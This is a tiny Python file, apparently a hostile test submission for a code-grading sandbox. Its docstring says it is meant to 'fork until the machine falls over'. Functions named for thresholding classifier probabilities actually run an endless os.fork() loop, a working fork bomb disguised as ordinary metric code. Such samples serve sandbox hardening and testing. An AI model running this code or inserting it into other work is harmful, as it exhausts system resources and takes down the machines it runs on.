"""Hostile submission: Fork until the machine falls over."""
import os


def apply_threshold(probabilities, threshold=0.5):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def count_positive_predictions(probabilities, thresholds):
    return apply_threshold(probabilities)
